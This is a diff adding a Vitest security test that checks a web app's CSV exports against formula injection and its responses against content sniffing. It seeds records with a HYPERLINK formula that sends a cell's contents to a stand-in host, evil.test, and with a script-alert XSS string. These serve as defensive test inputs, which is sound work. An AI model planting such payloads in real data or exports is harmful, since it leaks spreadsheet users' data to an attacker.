@@ -1,0 +1,62 @@
+import { describe, expect, test } from 'vitest'
+import { createAccount } from '../people.ts'
+import { nameOf, ofWorld, probeOf, routesOf } from '../route-probes.ts'
+import { createTestApp } from '../test-app.ts'
+import { createWorld } from '../world.ts'
+
+const app = await createTestApp()
+const { db } = app
+const world = await createWorld(app, await createAccount(app))
+const routes = routesOf((await app.app.inject({ method: 'GET', url: '/api/docs/json' })).json())
+const files = routes.filter(({ path }) => path.endsWith('.csv'))
+
+const formula = `=HYPERLINK("http://evil.test/?"&A1,"Open")`
+const script = '<script>alert(1)</script>'
+await db.integrationPack.updateMany({ data: { name: formula } })
+await db.component.updateMany({ data: { name: formula } })
+await db.account.updateMany({ data: { name: formula } })
+await db.user.updateMany({ data: { firstName: formula } })
+await db.release.updateMany({ data: { scheduledByName: formula, notes: script } })
+await db.environment.updateMany({ data: { name: formula } })
+
+const call = async (route: (typeof routes)[number]) => {
+  const { method, path, query } = probeOf(route, ofWorld(world), world.email)
+  return world.admin.call(method, path, { query })
+}
+
+/** The cells of a CSV file as a spreadsheet has them. */
+const cellsOf = (text: string) =>
+  [...text.matchAll(/"((?:[^"]|"")*)"|([^,\r\n]+)/g)].map(
+    ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
+  )
+
+describe('15 no cell of an export is a formula', () => {
+  test('there are exports', () => expect(files.length).toBeGreaterThanOrEqual(3))
+
+  test.each(files.map((route) => [nameOf(route), route] as const))('%s', async (_name, route) => {
+    // What the account does next is in its log under its new name.
+    await world.admin.call('PATCH', '/user', { body: { firstName: formula } })
+    const answer = await call(route)
+    expect(answer.statusCode, answer.body).toBe(200)
+    expect(answer.headers['content-disposition']).toMatch(/^attachment/)
+    const cells = cellsOf(answer.body)
+    expect(cells.filter((cell) => /^[=+@\t\r]|^-(?!\d)/.test(cell))).toEqual([])
+    // What somebody called it is there all the same, as text.
+    expect(
+      cells.some((cell) => cell.startsWith(`'${formula}`)),
+      answer.body,
+    ).toBe(true)
+  })
+})
+
+describe('14 nothing that is answered is read as a page', () => {
+  const reads = routes.filter(({ method, path }) => method === 'GET' && path !== '/events')
+
+  test.each(reads.map((route) => [nameOf(route), route] as const))('%s', async (_name, route) => {
+    const { headers } = await call(route)
+    expect(headers['x-content-type-options']).toBe('nosniff')
+    const type = String(headers['content-type'] ?? 'application/json')
+    const isFile = String(headers['content-disposition']).startsWith('attachment')
+    expect(isFile || /^(application\/json|text\/calendar)/.test(type), type).toBe(true)
+  })
+})
